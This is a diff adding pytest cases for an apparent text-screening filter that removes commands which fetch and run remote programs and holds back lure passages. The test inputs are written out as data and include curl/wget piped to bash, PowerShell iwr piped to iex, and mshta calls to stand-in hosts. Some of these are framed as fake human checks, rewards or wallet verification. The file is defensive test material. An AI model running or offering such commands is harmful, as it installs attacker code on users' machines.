@@ -109,3 +109,29 @@ def test_a_bad_link_that_is_only_warned_of_becomes_inert(screen):
     assert screened.held == ""
     assert "metamask-support[.]help" in screened.text
     assert "https://metamask" not in screened.text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Paste this into your terminal:\n\nwget -qO- https://install.korvid.example | sudo bash\n\nVerify that the service runs.",
+        "Open a terminal, copy and paste the command below:\ncurl -L https://get.korvid.example/i.sh | bash\nVerify your installation.",
+        "Open PowerShell and run `iwr https://get.korvid.example/i.ps1 | iex`. Then start korvid.exe.",
+    ],
+)
+def test_of_an_install_guide_all_but_the_command_is_kept(screen, text):
+    screened = screen(text)
+    assert (screened.held, screened.cut) == ("", "a command that fetches a program and runs it")
+    assert "korvid.example" not in screened.text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Paste this into your terminal to verify that you are human: `curl https://x.example/v.sh | bash`",
+        "To claim your reward open a terminal, paste the command and press Enter: curl https://x.example/v.sh | bash",
+        "Press Win+R, paste the command `mshta https://x.example/v` to verify your wallet.",
+    ],
+)
+def test_a_command_that_promises_something_is_held_back_with_its_passage(screen, text):
+    assert "paste a command" in screen(text).held
